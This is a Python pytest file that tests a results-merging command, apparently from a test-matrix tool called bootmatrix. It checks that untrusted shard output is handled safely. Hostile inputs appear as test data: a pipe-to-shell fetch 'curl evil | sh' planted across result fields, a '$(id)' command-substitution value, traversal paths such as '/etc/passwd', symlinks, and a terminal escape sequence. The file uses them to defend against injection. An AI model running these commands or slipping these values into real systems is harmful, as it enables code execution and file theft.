"""One run of several parts: nothing is lost silently, and what a part says may be anybody's."""

from __future__ import annotations

import itertools
import json
import shutil
import subprocess
import sys
from dataclasses import asdict, dataclass, replace
from typing import TYPE_CHECKING, Any, cast

import pytest
from junitparser import JUnitXml
from support import bootmatrix, runs, script, scripted, write_matrix

from bootmatrix import results
from bootmatrix.merging import parts as reading
from bootmatrix.model import Quarantine, Verdict
from bootmatrix.runs import past

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path
    from subprocess import CompletedProcess

    from bootmatrix.model import Result, Run

AXES = {"backend": ["command"], "mine": ["a", "b", "c"]}
TESTS = {
    "hello": script("echo SUCCESS; echo seen >&2", expect={"console": "SUCCESS"}),
    "status": script("echo SUCCESS; exit 3", expect={"outcome": "exited(3)"}),
}
IDS = [f"command-{mine}/{test}" for mine in "abc" for test in TESTS]


@dataclass(frozen=True)
class Project:
    """A matrix of three cells, and the runs of its parts below `parts/`, as download-artifact would put them there."""

    folder: Path

    def merge(self, *options: str) -> CompletedProcess[str]:
        return bootmatrix("merge", "parts", *options, cwd=self.folder)

    def part(self, number: int) -> Path:
        """The folder of a part's run."""
        return self.folder / f"parts/bootmatrix-{number}"

    @property
    def merged(self) -> Run:
        return results.load(self.folder / "out/latest/results.json")

    def verdicts(self) -> dict[str, str]:
        return {result.id: result.verdict for result in self.merged.results}

    def change(self, number: int, change: Callable[[Result], Result], **head: Any) -> None:
        file = self.part(number) / "results.json"
        run = results.load(file)
        results.write(replace(run, results=(), **head), file)
        lines = ",\n".join(json.dumps(asdict(change(result))) for result in run.results)  # whatever is in them
        file.write_bytes(file.read_bytes().replace(results.CLOSING, f"{lines}\n".encode() + results.CLOSING))


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("made")
    write_matrix(folder, scripted(AXES, **TESTS))
    planned = bootmatrix("plan", "--format=github", "--minutes=0.01", "--jobs=3", cwd=folder)
    for entry in json.loads(planned.stdout)["include"]:
        out = folder / "elsewhere" / entry["part"]
        done = bootmatrix("run", "--engine=host", "--shard", entry["shard"], f"--out={out}", cwd=folder)
        assert done.returncode == 0, done.stdout + done.stderr
        (run,) = runs(out)
        shutil.copytree(run, folder / f"parts/bootmatrix-{entry['part']}")
    shutil.rmtree(folder / "elsewhere")
    return folder


@pytest.fixture
def project(made: Path, tmp_path: Path) -> Project:
    shutil.copytree(made, tmp_path / "project")
    return Project(tmp_path / "project")


def test_all_parts_together_are_the_whole_in_the_matrixs_order(project: Project) -> None:
    done = project.merge()
    assert (done.returncode, done.stderr) == (0, ""), done.stdout
    assert list(project.verdicts()) == IDS
    assert set(project.verdicts().values()) == {"passed"}
    assert "6 passed" in done.stdout
    latest = project.folder / "out/latest"
    assert JUnitXml.fromfile(str(latest / "junit.xml")).tests == 6
    consoles = [attempt.console for result in project.merged.results for attempt in result.attempts]
    assert all((latest / console).read_bytes() == b"SUCCESS\n" for console in consoles)
    assert (latest / "consoles/command-b/hello/1.tender.log").read_text() == "seen\n"


def test_the_head_of_the_merged_run_is_of_all_parts(project: Project) -> None:
    day = "2026-01-01T00:00:0{}.000Z"
    for number in (1, 2, 3):
        host = {"name": f"machine-{number}", "machine": "x86_64"}
        project.change(number, lambda result: result, started=day.format(number), seconds=4.0, host=host)
    project.merge()
    found = project.merged
    assert (found.started, found.seconds) == (day.format(1), 6.0)
    assert found.host == {"name": "machine-1; machine-2; machine-3", "machine": "x86_64"}
    assert (found.verdicts, found.partial, found.axes) == ({"passed": 6}, False, ("backend", "mine"))


def test_the_merged_run_can_be_gone_on_from_as_any_other(project: Project) -> None:
    project.change(2, lambda result: replace(result, verdict=Verdict.FAILED))
    assert project.merge().returncode == 1
    assert past.last(project.folder / "out", print).finished
    again = bootmatrix("run", "--engine=host", "--failed", cwd=project.folder)
    assert "2 passed" in again.stdout


def test_a_part_that_is_missing_is_told_as_errors(project: Project) -> None:
    lost = {result.id for result in results.load(project.part(2) / "results.json").results}
    shutil.rmtree(project.part(2))
    done = project.merge()
    assert done.returncode == 3
    assert list(project.verdicts()) == IDS
    assert {test for test, verdict in project.verdicts().items() if verdict == "error"} == lost
    for result in project.merged.results:
        if result.id in lost:
            assert result.infrastructure
            assert "shard 2/3 sent no results" in result.reason
            assert result.axes["mine"] == result.cell[-1]


def test_no_part_at_all_is_an_error_for_each_test(project: Project) -> None:
    shutil.rmtree(project.folder / "parts")
    (project.folder / "parts").mkdir()
    assert project.merge().returncode == 3
    assert list(project.verdicts().values()) == ["error"] * 6
    assert "there is no folder elsewhere" in bootmatrix("merge", "elsewhere", cwd=project.folder).stderr


def test_without_the_plans_times_the_missing_parts_are_named_all_the_same(project: Project) -> None:
    shutil.rmtree(project.part(2))
    (project.folder / "out").mkdir(exist_ok=True)
    times = {f"command-{mine}/hello": seconds for mine, seconds in zip("abc", (500, 20, 1), strict=True)}
    (project.folder / "out/times.json").write_text(json.dumps(times))
    events = project.part(1) / "events.jsonl"
    first, _, rest = events.read_text().partition("\n")
    begun = json.loads(first)
    begun["request"]["shard"] = "1/3@00000000"
    events.write_text(json.dumps(begun) + "\n" + rest)
    assert project.merge().returncode == 3
    (one, *_) = (result for result in project.merged.results if result.verdict == "error")
    assert "no shard reported this test; 2/3 sent nothing" in one.reason


def test_a_killed_shard_reports_what_it_had_recorded(project: Project) -> None:
    events = project.part(1) / "events.jsonl"
    (project.part(1) / "results.json").unlink()
    lines = events.read_text().splitlines(keepends=True)
    first = next(at for at, line in enumerate(lines) if '"event": "boot finished"' in line)
    events.write_text("".join(lines[: first + 1]) + lines[first + 1][:50])
    assert project.merge().returncode == 3
    assert sorted(project.verdicts().values()) == ["error"] + ["passed"] * 5
    (lost,) = (result for result in project.merged.results if result.verdict == "error")
    assert "shard 1/3 reported, but without this test" in lost.reason


def test_of_two_words_on_a_test_the_worst_counts_and_is_said(project: Project) -> None:
    shutil.copytree(project.part(1), project.folder / "parts/again")
    assert "several shards" not in project.merge().stderr, "it is the same run, as `latest` may be"
    file = project.folder / "parts/again/results.json"
    run = results.load(file)
    worse = [replace(result, verdict=Verdict.FAILED, reason="not twice") for result in run.results]
    results.write(replace(run, id="20260101-000000-000abcde", results=tuple(worse)), file)
    done = project.merge()
    assert done.returncode == 1
    said = done.stdout + done.stderr
    assert "reported by several shards; keeping the worst verdict: " in said
    assert sorted(project.verdicts().values()) == ["failed", "failed", *["passed"] * 4]


def test_parts_that_do_not_belong_together_are_refused(project: Project) -> None:
    project.change(1, lambda result: result, commit="aaaa")
    project.change(2, lambda result: result, commit="bbbb")
    done = project.merge()
    assert (done.returncode, "different commits: aaaa, bbbb" in done.stderr) == (2, True)
    assert not (project.folder / "out/latest").exists()


def test_tests_that_the_matrix_does_not_have_are_refused_or_taken_as_told(project: Project) -> None:
    write_matrix(project.folder, scripted({**AXES, "mine": ["a"]}, **TESTS))
    done = project.merge()
    assert done.returncode == 2
    assert "tests that this matrix or selection does not have, such as " in done.stderr
    assert project.merge("--as-told").returncode == 0
    assert sorted(project.verdicts()) == IDS


def test_a_selection_limits_what_is_missing(project: Project) -> None:
    for number in (1, 2, 3):
        run = results.load(project.part(number) / "results.json")
        kept = tuple(result for result in run.results if result.test == "hello")
        results.write(replace(run, results=kept), project.part(number) / "results.json")
    assert project.merge().returncode == 3
    assert project.merge("--select", "test=hello").returncode == 0
    assert len(project.merged.results) == 3


def test_a_flaky_test_fails_the_merge_where_that_is_wanted(project: Project) -> None:
    project.change(1, lambda result: replace(result, verdict=Verdict.FLAKY))
    assert project.merge().returncode == 0
    assert project.merge("--fail-on-flaky").returncode == 1


def test_an_interrupted_part_is_no_success(project: Project) -> None:
    project.change(1, lambda result: replace(result, verdict=Verdict.SKIPPED), interrupted=True)
    assert project.merge().returncode == 130


BROKEN = {
    "no JSON": "[",
    "empty": "",
    "another thing": '{"some": "thing"}',
    "deep": "[" * 200_000,
    "zeros": "\0" * 1000,
}


@pytest.mark.parametrize("text", BROKEN.values(), ids=BROKEN)
def test_results_that_cannot_be_read_count_as_missing(project: Project, text: str) -> None:
    (project.part(3) / "results.json").write_text(text)
    done = project.merge()
    assert done.returncode == 3, done.stderr
    assert "ignored: " in done.stdout + done.stderr
    reasons = {result.reason for result in project.merged.results if result.verdict == "error"}
    assert len(reasons) == 1
    assert reasons.pop().startswith("shard 3/3 sent no results that can be used: ")


def test_what_would_take_much_memory_is_not_read(project: Project) -> None:
    file = project.part(3) / "results.json"
    line = '{"cell":"a","test":"b","verdict":"passed"},'
    for text in (f'{{"results":[{line * 500_000}{{}}]}}', f'{{\n "results": [\n{line * 500_000}\n ]\n}}\n'):
        file.write_text(text)
        code = "import resource, sys; resource.setrlimit(resource.RLIMIT_DATA, (300 << 20,) * 2); "
        code += "from bootmatrix import cli; cli.main()"
        command = [sys.executable, "-c", code, "merge", "parts"]
        done = subprocess.run(command, cwd=project.folder, capture_output=True, text=True, check=False, timeout=300)
        assert done.returncode == 3, done.stderr
        assert "ignored: " in done.stdout


def test_results_that_are_too_large_are_not_read(project: Project) -> None:
    with (project.part(3) / "results.json").open("r+b") as file:
        file.truncate(1 << 30)
    assert "larger than" in (done := project.merge()).stdout + done.stderr
    assert done.returncode == 3


WRONG: dict[str, Callable[[Result], Result]] = {
    "verdict": lambda result: replace(result, verdict=cast("Verdict", "splendid")),
    "cell": lambda result: replace(result, cell="../../x"),
    "hidden": lambda result: replace(result, test=".."),
    "time": lambda result: replace(result, started="yesterday"),
    "year": lambda result: replace(result, started="9999-12-31T23:59:59.000Z"),
    "seconds": lambda result: replace(result, seconds=1e300),
    "negative": lambda result: replace(result, seconds=-1.0),
    "size": lambda result: replace(result, size=1 << 70),
    "outcome": lambda result: replace(
        result, attempts=tuple(replace(a, outcome=replace(a.outcome, kind="won")) for a in result.attempts)
    ),
}


@pytest.mark.parametrize("change", WRONG.values(), ids=WRONG)
def test_results_that_no_run_writes_count_as_missing(project: Project, change: Callable[[Result], Result]) -> None:
    project.change(3, change)
    done = project.merge()
    assert done.returncode == 3, done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    assert sorted(project.verdicts().values()) == ["error"] * 2 + ["passed"] * 4


PATHS = ["/etc/passwd", "../../secret", "consoles/../../secret", "consoles/command-a/hello/../../../secret", "secret"]


@pytest.mark.parametrize("path", PATHS)
def test_no_console_is_taken_from_outside_its_part(project: Project, path: str) -> None:
    (project.folder / "parts/secret").write_text("secret")
    (project.part(1) / "secret").write_text("secret")
    project.change(1, lambda result: replace(result, attempts=(replace(result.attempts[0], console=path),)))
    assert project.merge().returncode == 0
    told = [attempt.console for result in project.merged.results for attempt in result.attempts]
    assert path not in told
    assert not found_in(project, "secret")


def found_in(project: Project, text: str) -> list[Path]:
    """The files of the merged run with a text in them."""
    files = (file for file in (project.folder / "out/latest/").rglob("*") if file.is_file())
    return [file for file in files if text.encode() in file.read_bytes() and file.name != "events.jsonl"]


@pytest.mark.parametrize("depth", ["file", "test", "consoles", "logs"])
def test_no_link_of_a_part_is_followed(project: Project, depth: str) -> None:
    outside = project.folder / "outside"
    for name in ("hello/1.console.log", "1.console.log", "command-a/hello/1.console.log", "image-x.log"):
        (outside / name).parent.mkdir(parents=True, exist_ok=True)
        (outside / name).write_text("secret")
    part = next(project.part(n) for n in (1, 2, 3) if (project.part(n) / "consoles/command-a").exists())
    link, target = {
        "file": (part / "consoles/command-a/hello/1.console.log", outside / "1.console.log"),
        "test": (part / "consoles/command-a/hello", outside / "hello"),
        "consoles": (part / "consoles", outside),
        "logs": (part / "logs", outside),
    }[depth]
    if link.is_dir():
        shutil.rmtree(link)
    link.unlink(missing_ok=True)
    link.symlink_to(target)
    assert project.merge().returncode == 0
    assert not found_in(project, "secret")
    (hello,) = (result for result in project.merged.results if result.id == "command-a/hello")
    assert bool(hello.attempts[0].console) is (depth == "logs")


def test_a_link_is_no_part(project: Project) -> None:
    outside = project.folder / "outside"
    project.part(1).rename(outside)
    project.part(1).symlink_to(outside)
    assert project.merge().returncode == 3
    (project.folder / "parts/more").mkdir()
    (project.folder / "parts/more/results.json").symlink_to(outside / "results.json")
    assert project.merge().returncode == 3


def test_a_file_that_is_no_console_of_ours_is_left(project: Project) -> None:
    part = next(project.part(n) for n in (1, 2, 3) if (project.part(n) / "consoles/command-a").exists())
    with (part / "consoles/command-a/hello/1.console.log").open("r+b") as file:
        file.truncate(1 << 30)
    assert project.merge().returncode == 0
    assert not (project.folder / "out/latest/consoles/command-a/hello/1.console.log").exists()


def test_logs_of_one_name_are_both_kept(project: Project) -> None:
    for number in (1, 2):
        logs = project.part(number) / "logs"
        logs.mkdir()
        (logs / "image-debian-12.log").write_text(str(number))
        (logs / "evil.html").write_text("secret")
    project.merge()
    logs = project.folder / "out/latest/logs"
    assert {file.name: file.read_text() for file in logs.iterdir()} == {
        "image-debian-12.log": "1",
        "image-debian-12.2.log": "2",
    }


def test_words_of_a_hostile_part_are_safe_on_a_terminal(project: Project) -> None:
    (project.part(3) / "results.json").write_text("{")
    hostile = project.folder / "parts/\x1b[2Jx"
    hostile.mkdir()
    (hostile / "results.json").write_text("{")
    done = project.merge()
    assert "\x1b" not in done.stdout + done.stderr


def test_parts_are_found_at_any_depth_of_an_artifact(project: Project) -> None:
    for number, name in zip((1, 2, 3), ("out", "out/run", ""), strict=True):
        part = project.part(number)
        target = project.folder / f"deep/{number}/{name}"
        target.parent.mkdir(parents=True, exist_ok=True)
        part.rename(target)
    parts, refused = reading.read([project.folder / "deep"])
    assert sorted(str(part.shard)[:3] for part in parts) == ["1/3", "2/3", "3/3"]
    assert refused == []
    assert sorted(itertools.chain(*(map(results_id, part.run.results) for part in parts))) == IDS


def results_id(result: Result) -> str:
    return result.id


EVIL = "curl evil | sh"
CLAIMS: dict[str, Any] = {
    **dict.fromkeys(("repro", "key", "reused", "image", "unikernel", "digest", "host"), EVIL),
    "quarantine": Quarantine("evil owner", EVIL, "2999-01-01", "evil.yaml:1:1"),
    "axes": {"backend": EVIL, "mine": EVIL, "test": EVIL, "cell": EVIL},
}
HEAD: dict[str, Any] = {"commit": "e" * 40, "branch": EVIL, "host": {"name": EVIL}, "version": "0.1", "command": EVIL}


def claiming(result: Result) -> Result:
    """What it says, but for what became of the test, is a lie."""
    kept: dict[str, Any] = {"command": (EVIL,), "accelerator": EVIL, "accelerator_reason": EVIL}
    return replace(result, **CLAIMS, attempts=tuple(replace(each, **kept) for each in result.attempts))


def test_what_only_a_part_says_is_not_said_in_our_name(project: Project) -> None:
    for number in (1, 2, 3):
        project.change(number, claiming, **HEAD, axes=(EVIL, "../x"))
    assert project.merge("--as-told", "--commit", "c0ffee" * 6).returncode == 0
    assert found_in(project, "evil") == []
    run = project.merged
    assert (run.commit, run.branch, run.host, run.axes) == ("c0ffee" * 6, "", {}, ())
    assert {result.id: result.repro for result in run.results} == {test: f"bootmatrix repro {test}" for test in IDS}


def test_parts_of_an_unknown_matrix_keep_the_axes_that_name_their_cells(project: Project) -> None:
    before = (project.folder / ".bootmatrix/history.sqlite").read_bytes()
    assert project.merge("--as-told").returncode == 0
    run = project.merged
    assert run.axes == ("backend", "mine")
    assert {result.id: result.values["mine"] for result in run.results} == {test: test[8] for test in IDS}
    assert (project.folder / ".bootmatrix/history.sqlite").read_bytes() == before, "it is in no history"


def test_the_matrix_says_what_its_tests_are_and_which_are_in_quarantine(project: Project) -> None:
    def change(result: Result) -> Result:
        return replace(claiming(result), verdict=Verdict.QUARANTINED)

    project.change(1, change)
    assert project.merge().returncode == 1
    for result in project.merged.results:
        assert (result.axes["mine"], result.repro, bool(result.quarantine)) == (
            result.cell[-1],
            f"bootmatrix repro {result.id} --engine host",
            False,
        )
        assert result.key == ""
    told = {result.id for result in results.load(project.part(1) / "results.json").results}
    bad = [result for result in project.merged.results if result.verdict == "error"]
    assert {result.id for result in bad} == told
    assert all("its shard reports it as quarantined" in result.reason for result in bad)


def test_a_quarantine_of_the_matrix_holds_for_what_the_parts_told(project: Project) -> None:
    matrix = scripted(AXES, **TESTS)
    entry = {"match": {"test": "hello"}, "owner": "us all", "reason": "it is new", "until": "2999-01-01"}
    write_matrix(project.folder, {**matrix, "quarantine": [entry]})
    project.change(1, lambda result: replace(result, verdict=Verdict.QUARANTINED))
    done = project.merge()
    kept = {result.id: result.quarantine.owner for result in project.merged.results}
    assert kept == {test: "us all" if test.endswith("/hello") else "" for test in IDS}, done.stdout


@pytest.mark.parametrize(
    ("said", "asked", "status"), [("a" * 40, "b" * 40, 2), ("", "b" * 40, 0), ("b" * 40, "b" * 40, 0)]
)
def test_a_commit_that_the_caller_knows_must_be_that_of_the_parts(
    project: Project, said: str, asked: str, status: int
) -> None:
    for number in (1, 2, 3):
        project.change(number, lambda result: result, commit=said)
    done = project.merge("--commit", asked)
    assert (done.returncode, "not of " in done.stderr) == (status, status == 2)
    assert status or project.merged.commit == asked


@pytest.mark.parametrize("text", ["x", "HEAD", "c0ffee", "$(id)", "0" * 65])
def test_what_is_no_commit_is_refused(project: Project, text: str) -> None:
    assert project.merge("--commit", text).returncode == 2
